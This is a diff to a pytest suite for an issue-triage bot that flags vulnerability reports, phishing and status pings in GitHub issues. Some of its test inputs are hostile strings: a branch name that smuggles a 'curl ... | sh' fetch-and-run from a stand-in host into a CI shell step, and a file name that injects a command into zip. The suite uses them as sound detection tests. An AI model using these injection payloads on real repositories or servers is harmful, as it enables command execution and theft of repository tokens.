@@ -6,7 +6,8 @@ from pathlib import Path
 
 import pytest
 
-from bot.rules.detect import MAX_BODY_CHARS, REASON_NAMES, Thresholds, Verdict, classify, classify_stream
+from bot.rules.detect import (MAX_BODY_CHARS, MAX_TOTAL_CHARS, MAX_WINDOWS, REASON_NAMES, Thresholds, Verdict, classify,
+                               classify_stream, is_reason, windows)
 
 CORPUS = Path(__file__).parent / "corpus" / "issues.jsonl"
 DEV = Path(__file__).parent / "corpus" / "dev.jsonl"
@@ -139,8 +140,10 @@ def test_template_comments_telling_people_not_to_report_here_are_ignored():
 
 def test_thresholds_are_per_repository_and_move_the_decision():
     title, body = "Datanode fails to start under the security manager", "Kerberos principal permissions are wrong in secure mode."
-    assert classify(title, body).kind == "none"
-    assert classify(title, body, Thresholds(public=0.06, notify=0.06)).kind == "vulnerability"
+    assert classify(title, body).kind != "vulnerability"
+    assert classify(title, body, Thresholds(public=0.99, notify=0.99)).kind == "none"
+    assert classify(title, body, Thresholds(public=0.001, notify=0.001)).kind == "possible"  # no claim: never public
+    assert classify("SQL injection in the search box", "", Thresholds(public=0.001, notify=0.001)).kind == "vulnerability"
 
 
 def test_reasons_never_contain_input_text():
@@ -150,7 +153,7 @@ def test_reasons_never_contain_input_text():
             f"Do you pay a bounty? {canary} ... [x](javascript:{canary})")
     rows = _rows() + _rows(DEV)
     for v in (classify(title, body), classify(canary, canary), *[classify(r["title"], r["body"]) for r in rows]):
-        assert set(v.reasons) <= REASON_NAMES
+        assert all(is_reason(r) for r in v.reasons), v.reasons
         assert not any(canary in r for r in v.reasons)
 
 
@@ -171,11 +174,39 @@ def test_empty_and_missing_body_are_handled():
     assert classify("Typo in README", "").kind == "none"
 
 
-def test_huge_bodies_are_capped():
-    body = "lorem ipsum " * (MAX_BODY_CHARS // 4) + "\nAn attacker can get remote code execution."
+def test_long_bodies_are_read_in_full_in_overlapping_windows():
+    body = "lorem ipsum " * (MAX_BODY_CHARS // 4) + "\nAn attacker can get remote code execution through the import endpoint."
+    assert len(body) > 2 * MAX_BODY_CHARS
     v = classify("Slow rendering", body)
-    assert "truncated" in v.reasons
-    assert v.kind == "none"  # the words past the cap are not read
+    assert "windowed" in v.reasons and "truncated" not in v.reasons
+    assert v.kind in ("vulnerability", "possible")  # the words past the first window are read
+    assert classify("Slow rendering", "lorem ipsum " * (MAX_BODY_CHARS // 4)).kind == "none"
+
+
+@pytest.mark.parametrize("size", [MAX_BODY_CHARS, MAX_BODY_CHARS + 1, 65_536, 400_000, MAX_TOTAL_CHARS, MAX_TOTAL_CHARS + 5])
+def test_windows_cover_the_body_overlap_and_stay_few(size):
+    body = "".join(f"line {i} of the log\n" for i in range(size // 10 + 10))[:size]
+    parts = windows(body)
+    assert 1 <= len(parts) <= MAX_WINDOWS
+    assert "".join(parts[:1]) == body[:len(parts[0])]
+    covered = body[:MAX_TOTAL_CHARS]
+    pos = 0
+    for part in parts:  # each window starts inside the previous one and they reach the end
+        start = covered.index(part, max(0, pos - len(part)))
+        assert start <= pos
+        pos = start + len(part)
+    assert pos == len(covered)
+    if size > MAX_BODY_CHARS:
+        assert all(len(a) + len(b) > len(covered[covered.index(a):covered.index(b) + len(b)]) for a, b in zip(parts, parts[1:]))
+
+
+def test_a_megabyte_body_stays_cheap():
+    import time
+    body = ("The build log is long. " * 40 + "\n") * (MAX_TOTAL_CHARS // 900 + 1)
+    t0 = time.perf_counter()
+    v = classify("Build output", body)
+    assert time.perf_counter() - t0 < 3.0  # ~0.25 s measured (bench/classify.py); generous for CI
+    assert "truncated" in v.reasons and "windowed" in v.reasons
 
 
 # --- the corpus gate -----------------------------------------------------------------------
@@ -296,9 +327,9 @@ def test_classify_stream_preserves_order_and_reports_bad_lines_without_echoing_t
 def test_classify_stream_applies_thresholds():
     line = json.dumps({"title": "Test fails under the security manager", "body": "AccessControlException reading a property."})
     loose, strict = io.StringIO(), io.StringIO()
-    classify_stream([line], loose, Thresholds(public=0.06, notify=0.06))
-    classify_stream([line], strict)
-    assert json.loads(loose.getvalue())["verdict"] == "vulnerability"
+    classify_stream([line], loose, Thresholds(public=0.001, notify=0.001))
+    classify_stream([line], strict, Thresholds(public=0.99, notify=0.99))
+    assert json.loads(loose.getvalue())["verdict"] == "possible"  # topic words only: at most a heads-up
     assert json.loads(strict.getvalue())["verdict"] == "none"
 
 
@@ -324,4 +355,138 @@ def test_held_out_corpus_stays_above_what_it_reached() -> None:
     ordinary = [k for label, k in kinds if label == "none"]
     assert sum(k == "vulnerability" for k in vulns) / len(vulns) >= 0.78
     assert sum(k == "beg_bounty" for k in begs) / len(begs) >= 0.73
-    assert sum(k != "none" for k in ordinary) / len(ordinary) <= 0.03
+    # Since the two tiers (issue 16), a `possible` is a private heads-up, not a public false alarm;
+    # measured then: public recall 0.875, heads-up recall 0.98, heads-up false alarms 2 in 68.
+    assert sum(k not in ("none", "possible", "status_ping") for k in ordinary) / len(ordinary) <= 0.03
+    assert sum(k in ("vulnerability", "possible") for k in vulns) / len(vulns) >= 0.94
+    assert sum(k in ("vulnerability", "possible") for k in ordinary) / len(ordinary) <= 0.06
+
+
+# --- the learned model ---------------------------------------------------------------------
+
+def test_the_shipped_model_is_small_loads_fast_and_gives_the_default_thresholds():
+    import time
+
+    from bot.rules import learned
+    from bot.rules.config import RepoConfig  # noqa: F401  (the schema reads Thresholds() for its defaults)
+
+    data = learned.WEIGHTS_PATH.read_bytes()
+    assert len(data) <= 2 * 1024 * 1024
+    t0 = time.perf_counter()
+    model = learned.decode(data)
+    assert time.perf_counter() - t0 < 0.2
+    chosen = model.meta["thresholds"]
+    assert (Thresholds().public, Thresholds().notify) == (chosen["public"], chosen["notify"])  # retrain => update
+
+
+def test_the_weights_file_is_package_data():
+    text = (Path(__file__).parent.parent / "pyproject.toml").read_text(encoding="utf-8")
+    assert '"rules/detector.bin"' in text
+
+
+def test_features_are_bounded_and_hashing_is_stable():
+    from bot.rules import learned
+
+    long_text = " ".join(f"word{i} other{i}" for i in range(50_000))
+    feats = learned.hashed("title " * 500, long_text)
+    assert len(feats) <= 4 * (learned.MAX_TOKENS + learned.MAX_TITLE_TOKENS + 1)
+    assert learned.hashed("XSS in wiki", "An attacker runs script") == learned.hashed("XSS in wiki", "An attacker runs script")
+    assert all(0 <= h < 1 << learned.NBITS for h in feats)
+
+
+def test_classify_is_deterministic_and_the_learned_reason_is_a_number():
+    title, body = "JWT verify() trusts the alg header", "HS256 tokens signed with the public key are accepted."
+    a, b = classify(title, body), classify(title, body)
+    assert a == b
+    assert a.reasons[0].startswith("learned:") and is_reason(a.reasons[0])
+    assert not is_reason("learned:" + title)
+
+
+def test_the_rules_alone_are_the_benchmark_yardstick():
+    v = classify("Stored XSS in wiki page titles", "Titles are rendered unescaped.", model=False)
+    assert not any(r.startswith("learned:") for r in v.reasons)
+
+
+def test_topic_words_alone_never_reach_the_public_tier():
+    title, body = "Datanode fails to start under the security manager", "Kerberos principal permissions are wrong in secure mode."
+    for th in (Thresholds(), Thresholds(public=0.05, notify=0.01), Thresholds(public=0.05, notify=0.05)):
+        v = classify(title, body, th)
+        assert v.kind != "vulnerability" and v.score < th.public or v.score == th.notify == th.public
+        assert v.kind in ("possible", "none")
+
+
+@pytest.mark.slow
+def test_training_twice_gives_the_shipped_file():
+    import subprocess
+    import sys
+
+    root = Path(__file__).parent.parent
+    farsec = root.parent / "shared" / "data" / "farsec"
+    if not farsec.exists():
+        pytest.skip("FARSEC data not beside the project")
+    out = subprocess.run([sys.executable, str(root / "scripts" / "train_detector.py"), "--check", "--farsec", str(farsec)],
+                         capture_output=True, text=True, timeout=600)
+    assert out.returncode == 0, out.stdout[-2000:] + out.stderr[-2000:]
+    assert "OK" in out.stdout
+
+
+# --- held-out-style cases (written for this test, not in any training file) -------------------
+
+@pytest.mark.parametrize("title, body", [
+    ("Signature check and data read use different elements", "The verifier checks the signed element by id, but the parser reads the user's email from the first element with that tag name. Injecting a second unsigned element changes who logs in."),
+    ("Workflow echoes the PR branch name in a shell step", "`run: echo ${{ github.head_ref }}` in ci.yml: a branch named `a;curl${IFS}x.example|sh` runs commands with the repository token."),
+    ("Uploaded file names reach the zip command", "The archive feature runs `zip out.zip <names>`; a file called `-TmTT=sh -c id` makes zip run a command on the server."),
+    ("Qualquer um consegue apagar projetos de outra organização", "A rota DELETE /api/projetos/{id} não verifica a organização: com uma conta comum apaguei um projeto de teste de outra organização."),
+])
+def test_reports_without_a_class_keyword_reach_at_least_the_heads_up(title, body):
+    assert classify(title, body).kind in ("vulnerability", "possible")
+
+
+@pytest.mark.parametrize("title, body", [
+    ("", "Thanks, fixed in 1.4.2 and the advisory is published; closing. Please use private reporting next time."),
+    ("Question about the CVE in our HTTP library", "Our scanner lists CVE-2023-44487 for a dependency. Do we need to do anything, or is the default config unaffected?"),
+    ("Deliberately vulnerable lab: level 2 payload doesn't work", "In this intentionally insecure training app the XSS level 2 should accept `<img onerror>`, but the page shows it escaped."),
+    ("Bump jinja2 from 3.1.2 to 3.1.3", "Bumps jinja2. Fixes GHSA-h5c8-rqwp-cp95 (xmlattr XSS). Dependabot will rebase this PR."),
+])
+def test_texts_that_mention_a_weakness_without_reporting_one_are_not_redirected(title, body):
+    assert classify(title, body).kind != "vulnerability"
+
+
+# --- phishing and status pings --------------------------------------------------------------
+
+GITHUB_SCANNER_WAVE = (
+    "Security Vulnerability Detected in Your Repository",
+    "Hey there!\n\nWe have detected a security vulnerability in your repository. Please contact us at "
+    "[https://github-scanner.com](https://github-scanner.com) to get more information on how to fix this issue.\n\n"
+    "Best regards,\nGithub Security Team\n\n@alice @bob @carol @dave @erin @frank",
+)
+
+
+def test_the_2024_github_scanner_phishing_wave_is_phishing():
+    v = classify(*GITHUB_SCANNER_WAVE)
+    assert v.kind == "phishing"
+    assert {"phishing:alert-wording", "phishing:external-link", "phishing:mass-mentions"} <= set(v.reasons)
+
+
+def test_phishing_is_never_said_of_people_with_write_access_or_of_ordinary_issues():
+    from bot.rules.detect import TextContext
+
+    assert classify(*GITHUB_SCANNER_WAVE, context=TextContext(author_association="MEMBER")).kind != "phishing"
+    rows = _rows() + _rows(DEV)
+    assert not [r["id"] for r in rows if classify(r["title"], r["body"]).kind == "phishing"]
+    # a real alert that links to GitHub itself is not phishing
+    assert classify("Security alert from Dependabot", "We detected a vulnerability in your repository: see "
+                    "https://github.com/acme/app/security/dependabot/3 @a @b @c. Urgent: fix within 24 hours.").kind != "phishing"
+
+
+@pytest.mark.parametrize("title, body", [
+    ("", "Any update on my report from last week? I sent it through the private form."),
+    ("Please enable private vulnerability reporting", "I'd like to report something privately; could you enable private vulnerability reporting?"),
+])
+def test_status_pings_are_recognised(title, body):
+    assert classify(title, body).kind == "status_ping"
+
+
+def test_a_follow_up_that_describes_the_weakness_is_a_report_not_a_ping():
+    v = classify("", "Any update on my report? To recap: the /export endpoint returns every customer's data to anyone without logging in.")
+    assert v.kind != "status_ping"
